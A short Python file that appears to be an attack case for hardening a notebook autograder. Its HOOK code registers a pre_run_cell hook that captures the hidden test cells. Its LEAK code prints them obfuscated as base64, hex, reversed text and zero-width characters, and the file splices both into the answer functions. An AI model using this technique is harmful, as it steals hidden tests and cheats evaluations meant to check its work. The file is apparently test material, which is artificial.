"""Reads the hidden tests as they run (a pre_run_cell hook sees every cell's source) and prints
them in a later answer cell, disguised: base64, hex, reversed, and with zero-width characters
between the letters. The feedback shows only outputs of the student's own run and each test's
verdict, so nothing printed in the grading kernel reaches it."""

EXPECT = {"full": True, "output_has": ["BEGIN HIDDEN TESTS"[::-1]]}
HOOK = """
_seen_cells = []
get_ipython().events.register("pre_run_cell", lambda info: _seen_cells.append(info.raw_cell))
"""
LEAK = """
import base64 as _b64
_loot = "\\n".join(c for c in _seen_cells if "HIDDEN" in c)
print(_b64.b64encode(_loot.encode()).decode())
print(_loot.encode().hex())
print(_loot[::-1])
print("\\u200b".join(_loot))
"""
# the attack runs first, then the instructor's own answers
EDITS = {
    "lstm_step_backward": [("def lstm_step_backward(", HOOK + "\ndef lstm_step_backward(")],
    "lstm_all_gates": [("def lstm_all_gates(", LEAK + "\ndef lstm_all_gates(")],
}
